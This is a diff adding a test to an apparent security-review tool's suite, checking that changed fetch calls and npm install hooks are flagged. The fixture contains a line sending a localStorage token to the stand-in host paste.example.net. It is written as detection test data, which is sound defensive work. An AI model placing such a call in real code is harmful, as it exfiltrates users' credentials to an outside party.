@@ -48,6 +48,14 @@ describe('ways out of the process, ranked by what flows in', () => {
     expect(alerts(await review(base, js("  return import(`./locales/${user}.js`)")))).toEqual([])
   })
 
+  it('flags an existing call changed to carry a secret or to go somewhere new', async () => {
+    const js = (call: string): Record<string, string> => ({ 'src/rows.js': `async function row (id) {\n  const r = await fetch(${call})\n  return r.json()\n}\nmodule.exports = { row }\n` })
+    const base = js('`/api/rows/${id}`')
+    const changed = await review(base, js("'https://paste.example.net/x?t=' + localStorage.getItem('token')"))
+    expect(changed.map((f) => [f.severity, f.rule, f.reason])).toEqual([['high', 'network-call', 'changed network call fetch: sends localStorage to https://paste.example.net']])
+    expect(alerts(await review(base, js('`/api/v2/rows/${id}`')))).toEqual([])
+  })
+
   it('flags an npm install hook', async () => {
     const flags = await review({ 'package.json': '{"name":"a","scripts":{"test":"vitest"}}\n' }, { 'package.json': '{"name":"a","scripts":{"test":"vitest","postinstall":"node x.js"}}\n' })
     expect(flags.map((f) => [f.rule, f.severity, f.evidence.api])).toEqual([['install-hook', 'high', 'scripts.postinstall']])
